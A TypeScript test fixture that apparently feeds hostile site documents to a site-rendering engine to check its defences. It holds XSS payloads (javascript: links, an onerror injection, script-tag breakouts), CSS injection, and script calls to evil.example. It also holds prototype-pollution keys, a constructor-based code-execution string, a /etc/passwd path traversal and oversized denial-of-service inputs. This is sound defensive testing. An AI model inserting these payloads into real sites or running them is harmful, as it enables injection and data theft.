import { WRITTEN_SITE } from './model-authors.ts';

const lines = WRITTEN_SITE.trim().split('\n');
const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const withLines = (...more: readonly unknown[]) =>
  `${WRITTEN_SITE}${more.map((line) => (typeof line === 'string' ? line : JSON.stringify(line))).join('\n')}\n`;
const custom = (js: string, html = '') =>
  withLines({ block: 'play', page: 'home', type: 'custom', title: 'Play', options: { part: 'p' } }, { part: 'p', html, js });

/** What a model that means harm, or was talked into it, may write in place of a site. */
export const HOSTILE_DOCUMENTS: Readonly<Record<string, string>> = {
  'links that run script': withLines({
    block: 'evil-links',
    page: 'home',
    type: 'cta',
    title: 'Go',
    actions: [
      { label: 'a', href: 'javascript:evil()' },
      { label: 'b', href: ' JaVaScRiPt:evil()' },
      { label: 'c', href: 'data:text/html,<script>evil()</script>' },
      { label: 'd', href: '//evil.example/x' },
    ],
  }),
  'pictures from elsewhere': withLines({
    block: 'evil-pictures',
    page: 'home',
    type: 'gallery',
    title: 'Look',
    items: [
      { title: 'a', image: 'https://evil.example/pixel.png' },
      { title: 'b', image: '//evil.example/pixel.png' },
      { title: 'c', image: 'x" onerror="evil()' },
    ],
  }),
  'a theme with addresses': withLines({
    site: { name: 'Evil' },
    theme: {
      primary: '#fff;background:url(//evil.example)',
      background: 'url(https://evil.example)',
      fonts: '}</style><x-evil>',
    },
  }),
  'a part that leaves its frame': custom('top.location = "https://evil.example"; parent.document.body.innerHTML = ""'),
  'a part that closes its script': custom('</script><script>evil()</script>', '</iframe><script>evil()</script><x-evil>'),
  'a part that calls out': custom(
    'fetch("https://evil.example"); new WebSocket("wss://evil.example"); import("https://evil.example/x.js")',
  ),
  'keys of prototypes': withLines(
    '{"__proto__":{"polluted":true},"site":{"name":"x"}}',
    '{"entity":"__proto__","label":"P","plural":"Ps","fields":["name:text!# Name"],"__proto__":{"polluted":true}}',
    '{"entity":"constructor","label":"C","plural":"Cs","fields":["__proto__:text Name","toString:text Text"]}',
    '{"rows":"__proto__","cols":["polluted"],"data":[[true]]}',
    '{"block":"__proto__","page":"home","type":"hero","title":"P","options":{"__proto__":{"polluted":true}}}',
    '{"pages":[{"id":"__proto__","path":"/p","title":"P"},{"id":"constructor","path":"/c","title":"C"}]}',
  ),
  'ids that collide': [...lines, ...lines, ...lines].join('\n'),
  'one page a thousand times': `{"pages":${JSON.stringify(Array.from({ length: 1000 }, (_, at) => ({ id: `p${at % 3}`, path: '/', title: 'P' })))}}\n`,
  'deep nesting': withLines(`{"block":"deep","page":"home","type":"hero","title":"D","options":{"a":${nested(20_000)}}}`),
  'deep nesting as a value of a row': withLines(`{"rows":"bread","cols":["name"],"data":[[${nested(20_000)}]]}`),
  'a giant line': withLines({ block: 'long', page: 'home', type: 'richtext', title: 'L', text: 'evil '.repeat(200_000) }),
  'very many blocks': withLines(
    ...Array.from({ length: 400 }, (_, at) => ({ block: `b${at}`, page: 'home', type: 'hero', title: 'B' })),
  ),
  'very many rows': withLines({ rows: 'bread', cols: ['name'], data: Array.from({ length: 20_000 }, () => ['x']) }),
  'expressions that would run': withLines({
    entity: 'trap',
    label: 'Trap',
    plural: 'Traps',
    icon: 'x',
    fields: ['name:text!# Name', 'sum:number Sum'],
    computed: [{ field: 'sum', expression: 'constructor.constructor("evil()")()' }],
  }),
  'pages outside of the site': withLines(
    '{"pages":[{"id":"up","path":"/../../etc/passwd","title":"Up"},{"id":"api","path":"/api/rows","title":"A"}]}',
  ),
};

/** More blocks than the engine works through in its time. */
export const ENDLESS_DOCUMENT = withLines(
  ...Array.from({ length: 1900 }, (_, at) => ({ block: `b${at}`, page: 'home', type: 'hero', title: 'B' })),
);

/** The documents in which one text after the other is replaced by an attack. */
export function* poisonedSites(attackOf: (index: number) => string): Generator<string> {
  const count = leavesOf(WRITTEN_SITE);
  for (let at = 0; at < count; at += 1) yield poison((leaf) => (leaf === at ? attackOf(at) : null));
  yield poison((leaf, text) => (/\s/.test(text) ? attackOf(leaf) : null));
}

function leavesOf(document: string): number {
  let count = 0;
  for (const line of document.trim().split('\n')) replaceTexts(JSON.parse(line), () => void (count += 1));
  return count;
}

function poison(choose: (leaf: number, text: string) => string | null): string {
  let leaf = -1;
  const poisoned = lines.map((line) =>
    JSON.stringify(
      replaceTexts(JSON.parse(line), (text) => {
        leaf += 1;
        return choose(leaf, text);
      }),
    ),
  );
  return `${poisoned.join('\n')}\n`;
}

function replaceTexts(value: unknown, replace: (text: string) => string | null | undefined | void): unknown {
  if (typeof value === 'string') return replace(value) ?? value;
  if (Array.isArray(value)) return value.map((each: unknown) => replaceTexts(each, replace));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, replaceTexts(inner, replace)]));
}

/** Addresses that a browser would fetch by itself when it shows the page, other than the page's own. */
export function remoteLoads(markup: string): string[] {
  const loads = [...markup.matchAll(/<(?:img|script|iframe|source|video|audio|embed|object|link|use|image)\b[^>]*>/gi)]
    .map(([tag]) => tag)
    .filter((tag) => !/^<link[^>]*rel="?(?:canonical|alternate)/i.test(tag))
    .filter((tag) => /\b(?:src|srcset|data|poster|href)\s*=\s*["']?\s*(?:https?:)?\/\//i.test(tag));
  return [...loads, ...(markup.match(/url\(\s*["']?(?:https?:)?\/\//gi) ?? [])];
}
